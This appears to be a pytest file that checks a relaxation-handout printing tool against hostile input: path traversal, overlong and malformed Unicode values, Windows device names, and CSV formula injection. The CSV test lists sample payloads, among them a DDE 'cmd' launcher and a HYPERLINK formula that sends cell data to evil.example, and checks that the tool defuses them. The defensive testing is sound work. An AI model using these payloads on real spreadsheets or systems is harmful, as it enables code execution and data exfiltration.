"""Issue 22, round 2 of hostile input: a test per cause of ../shared/notes/hostile-review-2.md
(numbered as there), through the HTTP API, the command line and the Python API."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import pathlib
import time
import zipfile
from collections.abc import Iterator

import pytest
from starlette.testclient import TestClient

from pmr_print import api, cli
from pmr_print.files import UnreadableFile, device_name
from pmr_print.options import BookletDetails, HandoutDetails, PrintOptions
from pmr_print.practice_log.entries import Entry, read_entries, to_csv
from pmr_print.problems import UsageError
from pmr_print.web.app import HEADER_PROBLEMS, make_app
from pmr_print.web.workers import Workers
from pmr_print.workshop.pack import clear_failed
from pmr_print.workshop.results import WorkshopReport
from pmr_print.workshop.roster import HEADER, RowProblem, read_roster
from tests.conftest import edit, line_of

PORT = 8766
BASE = f"http://127.0.0.1:{PORT}"
HEAD = ",".join(HEADER) + "\n"


@pytest.fixture(scope="module")
def client() -> Iterator[TestClient]:
    workers = Workers(None)
    try:
        with TestClient(make_app(PORT, workers=workers), base_url=BASE) as test_client:
            yield test_client
    finally:
        workers.close()


def errors(response: object) -> dict[str, str]:
    body = response.json()  # type: ignore[attr-defined]
    return {error["field"]: error["message"] for error in body["errors"]}


def raw_json(client: TestClient, path: str, body: str) -> object:
    return client.post(path, content=body.encode(), headers={"content-type": "application/json"})


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    status = cli.main(list(args))
    found = capsys.readouterr()
    return status, found.out, found.err


# 1. A repeated group is kept once; a huge list is refused ------------------------------------


def test_a_repeated_group_is_left_out_once_everywhere(client: TestClient) -> None:
    assert HandoutDetails(omit=("feet", "feet", "back")).omit == ("feet", "back")
    huge = client.post("/api/handout", json={"omit": ["feet"] * 20_000})
    assert huge.status_code == 400 and errors(huge)["omit"] == "--omit: 20000 items; at most 50"
    as_text = client.post("/api/handout", json={"omit": ",".join(["feet"] * 700)})
    assert errors(as_text)["omit"] == "--omit: 700 items; at most 50"
    roster = read_roster((HEAD + "a,Ann,en,,back;back;back,\n").encode(), "r.csv", ["en"])
    assert roster.rows[0].omit == ("back",)


# 3, 4. Text that is not valid Unicode: one line naming the field ------------------------------


@pytest.mark.parametrize(
    ("path", "key"),
    [
        ("/api/handout", "client"),
        ("/api/handout", "lang"),
        ("/api/handout", "recording_url"),
        ("/api/booklet", "client"),
        ("/api/log", "name"),
    ],
)
def test_a_lone_surrogate_in_json_is_a_400_naming_the_field(
    client: TestClient, path: str, key: str
) -> None:
    response = raw_json(client, path, json.dumps({key: "https://example.org/\ud800"}))
    assert response.status_code == 400  # type: ignore[attr-defined]
    assert errors(response)[key].startswith(f"--{key.replace('_', '-')}: not valid Unicode")


def test_a_surrogate_key_and_the_page_s_form_are_400_too(client: TestClient) -> None:
    response = raw_json(client, "/api/handout", '{"\\ud800x": 1}')
    assert response.status_code == 400  # type: ignore[attr-defined]
    assert list(errors(response)) == ["\\ud800x"]
    page = raw_json(client, "/make", '{"product": "handout", "client": "a\\udfffb"}')
    assert page.status_code == 400  # type: ignore[attr-defined]
    html = raw_json(client, "/api/handout", '{"format": "html", "clinic": "a\\udfffb"}')
    assert "clinic" in errors(html)


@pytest.mark.parametrize(
    "args",
    [
        ["handout", "--recording-url", "https://example.org/\udcff"],
        ["booklet", "--recording-url", "https://example.org/\udcff"],
        ["handout", "--format", "html", "--client", "Jane\udcffMiller"],
        ["booklet", "--format", "html", "--client", "Jane\udcffMiller"],
    ],
)
def test_an_invalid_byte_in_an_argument_is_one_line(
    args: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    status, _, err = run(capsys, *args, "-o", "-")
    option = args[-2]
    assert status == 2 and err.count("\n") == 1
    assert err.startswith(f"pmr-print: {option}: not valid Unicode text (U+DCFF alone)")


# 5. Deep JSON ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body", ["[" * 100_000 + "]" * 100_000, '{"a":' * 50_000 + "1" + "}" * 50_000]
)
def test_json_nested_100000_deep_is_a_400(client: TestClient, body: str) -> None:
    response = raw_json(client, "/api/handout", body)
    assert response.status_code == 400  # type: ignore[attr-defined]
    assert errors(response) == {"body": "not valid JSON: nested too deeply"}


# 6. The bilingual booklet refuses leaving out every group, as the others do --------------------


def test_the_bilingual_booklet_refuses_to_leave_out_every_group() -> None:
    every = tuple(group.id for group in api.load("en").groups)
    details = BookletDetails(omit=every)
    for make in (api.booklet_pdf, api.booklet_html):
        with pytest.raises(UsageError, match="leaves no step of the protocol 'standard'"):
            make(api.load("bi"), PrintOptions(), details)


# 7. CSV a spreadsheet would run: defused, and read back as typed -------------------------------


def test_formulas_in_notes_are_defused_in_csv_and_read_back_as_typed() -> None:
    typed = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"see")', "@SUM(A1)",
             "+1+1", "-2", "\tx", "'=already quoted", "it's fine"]  # fmt: skip
    entries = [
        Entry(dt.date(2026, 3, 9) + dt.timedelta(days=n), notes=note)
        for n, note in enumerate(typed)
    ]
    text = to_csv(entries)
    cells = [row[-1] for row in csv.reader(io.StringIO(text))][1:]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert cells[-1] == "it's fine"
    back = read_entries(text, "x.csv", "csv")
    assert [entry.notes for entry in back.entries] == [note.strip() for note in typed]


# 8. Problems: a short header, the full list in the body -----------------------------------------


def test_the_problems_header_is_short_and_the_zip_has_them_all(client: TestClient) -> None:
    bad = "".join(f"b{n},B,fr,,,\n" for n in range(400))
    roster = (HEAD + "g1,Good,en,,,\n" + bad).encode()
    response = client.post("/api/workshop", files={"roster": ("r.csv", roster)})
    assert response.status_code == 200
    header = response.headers["x-pmr-problems"]
    shown = json.loads(header)
    assert len(header) < 8_000 and len(shown) == HEADER_PROBLEMS + 1
    assert shown[-1] == f"and {400 - HEADER_PROBLEMS} more"
    listed = zipfile.ZipFile(io.BytesIO(response.content)).read("workshop/problems.txt")
    assert len(listed.decode().splitlines()) == 400


def test_no_packet_lists_every_problem_in_the_json_body(client: TestClient) -> None:
    roster = (HEAD + "".join(f"b{n},B,fr,,,\n" for n in range(300))).encode()
    response = client.post("/api/workshop", files={"roster": ("r.csv", roster)})
    body = response.json()
    assert response.status_code == 400 and len(body["problems"]) == 300
    message = body["errors"][0]["message"]
    assert "and 280 more" in message and message.count("\n") == 21


def test_more_than_500_participants_is_413(client: TestClient) -> None:
    roster = (HEAD + "".join(f"p{n},P,en,,,\n" for n in range(501))).encode()
    response = client.post("/api/workshop", files={"roster": ("r.csv", roster)})
    assert response.status_code == 413
    assert "at most 500" in errors(response)["roster"]


# 9, 10. Windows device names; a case-insensitive disk's twin ------------------------------------


@pytest.mark.parametrize("ident", ["CON", "nul", "COM1", "con.pdf", "aux.txt", "Lpt9"])
def test_a_windows_device_name_is_a_bad_row(ident: str) -> None:
    roster = read_roster((HEAD + f"{ident},Ann,en,,,\n").encode(), "r.csv", ["en"])
    assert not roster.rows and "Windows keeps for a device" in roster.problems[0].message
    assert device_name(ident) and not device_name("console") and not device_name("com10")


def test_a_refused_twin_never_removes_the_good_row_s_packet(tmp_path: pathlib.Path) -> None:
    folder = tmp_path / "packets"
    folder.mkdir()
    (folder / "p02.pdf").write_bytes(b"good")
    (folder / "x.pdf").write_bytes(b"stale")
    report = WorkshopReport(
        problems=[RowProblem("r", 3, "P02", "used twice"), RowProblem("r", 4, "x", "bad")]
    )
    clear_failed(folder, report, {"p02": b""})
    assert (folder / "p02.pdf").exists() and not (folder / "x.pdf").exists()


# 11. A FIFO or a device as roster ----------------------------------------------------------------


def test_a_fifo_or_a_device_as_roster_is_one_line(
    tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]
) -> None:
    fifo = tmp_path / "roster.csv"
    os.mkfifo(fifo)
    for roster, kind in ((fifo, "a pipe"), (pathlib.Path("/dev/zero"), "a device")):
        status, _, err = run(capsys, "workshop", "--roster", str(roster), "-o", str(tmp_path / "o"))
        assert status == 2 and err == f"pmr-print: {roster}: is {kind}, not a file\n"
        with pytest.raises(UnreadableFile):
            api.read_roster(roster)


# 12. A request's language never becomes a path ------------------------------------------------


@pytest.mark.parametrize("lang", ["/etc", "../../../etc", "en/../zh", "fr"])
def test_lang_is_only_a_language_the_server_loaded(client: TestClient, lang: str) -> None:
    response = client.post("/api/handout", json={"lang": lang})
    assert response.status_code == 400
    assert errors(response)["lang"].startswith("--lang: unknown language")
    with pytest.raises(Exception, match="no content for language"):
        api.load(lang)


# 13. Download names from an upload's name --------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../.bashrc.pdf", "bashrc-entries.csv"),
        ("..\\..\\evil.pdf", "evil-entries.csv"),
        ("invoice\u202efdp.exe.pdf", "invoice-fdp-exe-entries.csv"),
        ("....pdf", "log-entries.csv"),
    ],
)
def test_a_read_back_download_name_is_a_slug(client: TestClient, name: str, expected: str) -> None:
    blank = api.log_pdf(api.load("en"))
    response = client.post(
        "/api/log", data={"format": "csv"}, files={"read": (name, blank, "application/pdf")}
    )
    disposition = response.headers["content-disposition"]
    assert f'filename="{expected}"' in disposition and f"''{expected}" in disposition


# 16, 17. A roster with no participant; a name column named as such -------------------------------


def test_a_header_only_roster_says_so(tmp_path: pathlib.Path, capsys) -> None:
    roster = tmp_path / "r.csv"
    roster.write_text(HEAD + "\n\n", encoding="utf-8")
    status, _, err = run(capsys, "workshop", "--roster", str(roster), "-o", str(tmp_path / "o"))
    assert status == 2 and err == f"pmr-print: {roster}: no participants (only the header)\n"


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("x" * 300, "name: 300 characters; at most 200"),
        ("Ann\x07", "name: holds the control character U+0007, which cannot be printed"),
    ],
)
def test_a_bad_name_is_named_by_its_column(name: str, message: str) -> None:
    roster = read_roster((HEAD + f"a,{name},en,,,\n").encode(), "r.csv", ["en"])
    assert roster.problems[0].message == message


# 18. A long value is quoted short ----------------------------------------------------------------


def test_a_2mb_value_is_quoted_in_60_characters(client: TestClient) -> None:
    huge = "a" * 2_000_000
    response = client.post("/api/handout", json={"paper": huge, "locale": huge, "protocol": huge})
    found = errors(response)
    assert set(found) == {"paper", "locale", "protocol"}
    assert all(len(message) < 200 for message in found.values()), found
    bad_key = errors(client.post("/api/handout", json={huge: 1}))
    assert all(len(key) < 100 for key in bad_key)


# 19. Too many urlencoded fields: the API's JSON ------------------------------------------------


def test_a_form_of_300_fields_gets_json_errors(client: TestClient) -> None:
    body = "&".join(f"f{n}=x" for n in range(300))
    response = client.post(
        "/api/handout",
        content=body.encode(),
        headers={"content-type": "application/x-www-form-urlencoded"},
    )
    assert response.status_code == 400 and "body" in errors(response)


# 20. A broken form: no Python internals --------------------------------------------------------


def test_a_form_that_cannot_be_read_names_no_python_internals(tmp_path, capsys) -> None:
    pdf = tmp_path / "odd.pdf"
    pdf.write_bytes(b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /AcroForm 5 0 R >>\nendobj\n"
                    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n")  # fmt: skip
    status, _, err = run(capsys, "log", "--read", str(pdf))
    assert status == 2 and "NoneType" not in err and err.count("\n") == 1


# 21. The booklet's log weeks; a log's format ---------------------------------------------------


def test_a_booklet_s_log_weeks_lie_where_a_log_s_may(client: TestClient, capsys) -> None:
    status, _, err = run(capsys, "booklet", "--date", "2999-12-31", "--weeks", "12", "-o", "-")
    assert status == 2 and "a booklet's log weeks must lie between 1900 and 2999" in err
    for value in ("html", {"x": [5]}):
        response = client.post("/api/log", json={"format": value})
        assert response.status_code == 400 and "format" in errors(response)
    assert client.post("/api/log", json={"format": "pdf", "weeks": 1}).status_code == 200


# Content folders: far beyond any real paragraph is refused by check and by the build at once ---


@pytest.mark.parametrize(
    "paragraph",
    ["calm " * 2_000_000, "[" * 50_000 + "x" + "](https://example.org)" * 50_000],
    ids=["10-MB-paragraph", "50000-nested-links"],
)
def test_a_huge_paragraph_is_refused_by_check_and_build_in_seconds(
    content_copy: pathlib.Path, paragraph: str, capsys: pytest.CaptureFixture[str]
) -> None:
    guide = content_copy / "en" / "guide.md"
    old = "Progressive Muscle Relaxation (PMR) can help calm body and mind."
    edit(guide, old, paragraph)
    line = line_of(guide, paragraph[:20])
    start = time.monotonic()
    problems = api.check(content_copy)
    assert len(problems) == 1 and (problems[0].path, problems[0].line) == (str(guide), line)
    assert problems[0].message.endswith("characters; at most 5,000: split it into shorter ones")
    status, _, err = run(capsys, "handout", "--content", str(content_copy), "-o", "-")
    assert status == 2 and err == f"{problems[0]}\n"
    assert time.monotonic() - start < 10


# A long list of bad diary rows: the first on the terminal, all beside the output ---------------


def test_thousands_of_bad_diary_rows_are_summarised(tmp_path: pathlib.Path, capsys) -> None:
    rows = ["2026-03-09,yes,,,,,,good"] + [
        f"2027-01-{n % 28 + 1:02},no,,{n},,,," for n in range(3000)
    ]
    diary = tmp_path / "diary.csv"
    diary.write_text("date,practised,time,minutes,protocol,before,after,notes\n" + "\n".join(rows))
    out = tmp_path / "log.pdf"
    args = ["log", "--entries", str(diary), "--start", "2026-03-09", "--weeks", "1", "-o", str(out)]
    status, _, err = run(capsys, *args)
    lines = err.splitlines()
    assert status == 0 and out.exists() and len(lines) == 21
    kept = tmp_path / "log.problems.txt"
    assert lines[-1] == f"pmr-print: and 2,980 more; every bad row is in {kept}"
    assert len(kept.read_text(encoding="utf-8").splitlines()) == 3000


# 15. Ctrl-C during a workshop: the packets of this run are taken back ------------------------


def test_an_interrupted_workshop_leaves_no_packet(tmp_path: pathlib.Path) -> None:
    roster = tmp_path / "r.csv"
    roster.write_text(HEAD + "a1,Ann,en,,,\na2,Bo,en,,,\n", encoding="utf-8")
    out = tmp_path / "pack"

    def interrupt(done: int, total: int) -> None:
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        api.workshop(roster, out, progress=interrupt)
    assert not list(out.rglob("*.pdf"))
